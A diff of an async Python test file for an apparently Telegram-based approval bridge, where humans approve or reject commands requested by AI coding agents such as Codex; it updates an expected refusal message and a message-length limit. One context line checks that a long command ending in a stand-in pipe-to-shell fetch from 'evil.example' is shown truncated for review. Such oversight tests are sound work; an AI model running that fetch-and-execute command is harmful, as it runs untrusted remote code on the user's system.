@@ -350,7 +350,10 @@ async def test_an_edit_reply_is_echoed_and_one_more_tap_approves_it_changed(
     )
     assert await hook(api, reply(32, "edit ls", to=906)) == 200
     said = json.loads(sending.calls[3].request.content)["text"]
-    assert said == f"Approval #{codex['approval_id']} can only be approved as asked or rejected."
+    assert said == (
+        f"Approval #{codex['approval_id']} can only be approved as asked: Codex's hook cannot"
+        " run a changed command (it refuses updatedInput)."
+    )
     assert (await api.get(f"/v1/approvals/{codex['approval_id']}"))["status"] == "pending"
 
 
@@ -599,7 +602,7 @@ async def test_a_long_command_reaches_the_chat_as_its_head_and_tail_in_plain_tex
     assert "<b>Bash</b>" in request["text"]
     shown = next(line for line in request["text"].splitlines() if line.startswith("Command: "))
     assert shown.startswith("Command: pytest -k x") and shown.endswith("evil.example/x | sh")
-    assert "characters left out" in shown and len(request["text"]) <= 3600
+    assert "characters left out" in shown and len(request["text"]) <= 4096  # Telegram's limit
 
 
 async def test_a_withdrawn_request_says_so_on_the_chat(
